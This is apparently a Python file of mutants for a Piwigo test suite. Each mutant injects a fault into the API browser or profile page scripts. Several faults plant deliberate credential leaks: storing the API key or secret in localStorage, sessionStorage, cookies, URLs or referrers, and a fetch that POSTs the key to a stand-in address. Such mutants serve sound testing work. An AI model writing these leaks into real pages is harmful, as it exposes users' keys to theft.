"""Faults of what a person sees in a browser: the API browser and the profile page."""

from __future__ import annotations

from typing import Any, ClassVar

from piwigo_contract.errors import SuiteError
from piwigo_contract.reference.gallery import Gallery
from piwigo_contract.reference.mutants.registry import mutant


class _Page(Gallery):
    """Another script in a page. about: which page. changes: what stands in its source, and what in its place."""

    about: ClassVar[str]
    changes: ClassVar[dict[str, str]]

    def script(self, name: str, **values: Any) -> str:
        source = super().script(name, **values)
        if name == self.about:
            for right, wrong in self.changes.items():
                if right not in source:
                    raise SuiteError(f"{type(self).__name__}: {right!r} is not in {name}.html")
                source = source.replace(right, wrong)
        return source


class _ApiBrowser(_Page):
    about = "ws"


class _Profile(_Page):
    about = "profile"


# --- the API browser


@mutant("api-browser-without-a-field-for-a-key", "BRW-01")
class ApiBrowserWithoutAField(_ApiBrowser):
    """The API browser still knows cookies alone."""

    changes: ClassVar = {'<div class="header-setting">': '<div class="header-setting" hidden>'}


@mutant("api-browser-names-another-header", "BRW-01")
class ApiBrowserNamesAnotherHeader(_ApiBrowser):
    """The label of the field was not renamed together with the header."""

    changes: ClassVar = {'<p class="header-label">X-PIWIGO-API': '<p class="header-label">Authorization'}


@mutant("api-browser-sends-another-header", "BRW-02")
class ApiBrowserSendsAnotherHeader(_ApiBrowser):
    """The header that is sent was not renamed together with its label."""

    changes: ClassVar = {'headers: { "X-PIWIGO-API"': 'headers: { "Authorization"'}


@mutant("api-browser-sends-no-key", "BRW-02")
class ApiBrowserSendsNoKey(_ApiBrowser):
    """The key typed in is read before it is typed in."""

    changes: ClassVar = {'element("apiKey").value': 'element("apiKey").defaultValue'}


@mutant("api-browser-asks-again-without-the-key", "BRW-03")
class ApiBrowserAsksAgain(_ApiBrowser):
    """A call that is refused is made again without the key."""

    changes: ClassVar = {
        "const answer = await fetch(url(method), options);": "let answer = await fetch(url(method), options);\n"
        "  if (answer.status === 401) answer = await fetch(url(method));"
    }


@mutant("api-browser-keeps-the-last-answer", "BRW-03")
class ApiBrowserKeepsTheLastAnswer(_ApiBrowser):
    """A refusal is not shown at all."""

    changes: ClassVar = {"await answer.text();": 'answer.ok ? await answer.text() : "stat";'}


@mutant("api-browser-remembers-the-key", "BRW-04")
class ApiBrowserRemembersTheKey(_ApiBrowser):
    """The key typed in is there again on the next visit."""

    changes: ClassVar = {"  const options =": '  localStorage.setItem("key", key);\n  const options ='}


@mutant("api-browser-puts-the-key-into-its-address", "BRW-04")
class ApiBrowserPutsTheKeyIntoItsAddress(_ApiBrowser):
    """What was typed in can be bookmarked."""

    changes: ClassVar = {"  const options =": '  history.replaceState(null, "", `#${key}`);\n  const options ='}


@mutant("api-browser-has-the-key-counted-elsewhere", "BRW-04")
class ApiBrowserHasTheKeyCountedElsewhere(_ApiBrowser):
    """What is typed in is told to somebody who counts visits."""

    changes: ClassVar = {
        "  const options =": '  fetch("http://127.0.0.1:9/", { method: "POST", body: key }).catch(() => {});\n'
        "  const options ="
    }


@mutant("api-browser-puts-the-key-into-the-query", "BRW-04")
class ApiBrowserPutsTheKeyIntoTheQuery(_ApiBrowser):
    """The key is in the address of the call as well, for servers that lose headers."""

    changes: ClassVar = {"fetch(url(method), options)": "fetch(`${url(method)}&key=${key}`, options)"}


@mutant("api-browser-names-a-page-with-the-key-as-referrer", "BRW-04")
class ApiBrowserNamesAPageWithTheKeyAsReferrer(_ApiBrowser):
    """The call is said to come from the address under which the page opens with the key filled in."""

    changes: ClassVar = {'{ credentials: "omit",': '{ referrer: `?key=${key}`, credentials: "omit",'}


# --- the profile page


@mutant("form-shows-no-secret", "BRW-05", also=("BRW-06",))
class FormShowsNoSecret(_Profile):
    """The form shows stars in place of the one secret that is to be seen."""

    changes: ClassVar = {"= made.apikey_secret": '= "*".repeat(40)'}


@mutant("form-shows-the-secret-cut", "BRW-05", also=("BRW-06",))
class FormShowsTheSecretCut(_Profile):
    """The field for the secret is shorter than a secret."""

    changes: ClassVar = {"= made.apikey_secret": "= made.apikey_secret.slice(0, 32)"}


@mutant("secret-kept-in-the-browser", "BRW-06")
class SecretKeptInTheBrowser(_Profile):
    """The secret is kept, so that it is not lost where the page is closed too soon."""

    changes: ClassVar = {
        "= made.apikey_secret;": "= made.apikey_secret;\n  sessionStorage.secret = made.apikey_secret;"
    }


@mutant("secret-shown-on-the-next-visit", "BRW-06")
class SecretShownOnTheNextVisit(_Profile):
    """The secret is put into a cookie, for the script to read on the next visit."""

    changes: ClassVar = {
        "= made.apikey_secret;": "= made.apikey_secret;\n  document.cookie = `last=${made.apikey_secret}`;"
    }


@mutant("rename-on-the-page-alone", "BRW-07")
class RenameOnThePageAlone(_Profile):
    """A new name is shown until the page is loaded anew."""

    changes: ClassVar = {'await manage("edit",': 'await manage("get",'}


@mutant("first-key-of-the-list-renamed", "BRW-07")
class FirstKeyOfTheListRenamed(_Profile):
    """Whichever pencil is clicked, the first key is renamed."""

    changes: ClassVar = {
        'await manage("edit", { pkid: chosen.dataset.pkid': 'await manage("edit", { pkid: '
        'document.querySelector(".api-icon-action").dataset.pkid'
    }


@mutant("revocation-on-the-page-alone", "BRW-08")
class RevocationOnThePageAlone(_Profile):
    """The key that is revoked is taken off the list, and nothing else happens."""

    changes: ClassVar = {'await manage("revoke",': 'await manage("get",'}


@mutant("first-key-of-the-list-revoked", "BRW-08")
class FirstKeyOfTheListRevoked(_Profile):
    """Whichever bin is clicked, the first key is revoked."""

    changes: ClassVar = {
        'await manage("revoke", { pkid: chosen.dataset.pkid': 'await manage("revoke", { pkid: '
        'document.querySelector(".api-icon-action").dataset.pkid'
    }


@mutant("last-use-filled-in-by-a-script-that-fails", "BRW-09", also=("USED-19",))
class LastUseFilledInByAScriptThatFails(_Profile):
    """The script of the page reads the last use by a name that the field no longer has."""

    changes: ClassVar = {
        "let chosen = null;": "let chosen = null;\n"
        'for (const each of document.getElementsByClassName("api_last_use")) each.textContent = "Never";'
    }


@mutant("day-of-creation-shown-as-last-use", "BRW-09", also=("USED-19",))
class DayOfCreationShownAsLastUse(_Profile):
    """The list shows the day of creation in the column of the last use."""

    changes: ClassVar = {
        "let chosen = null;": "let chosen = null;\n"
        'for (const each of document.getElementsByClassName("api_last_use")) '
        "each.textContent = each.previousElementSibling.textContent;"
    }
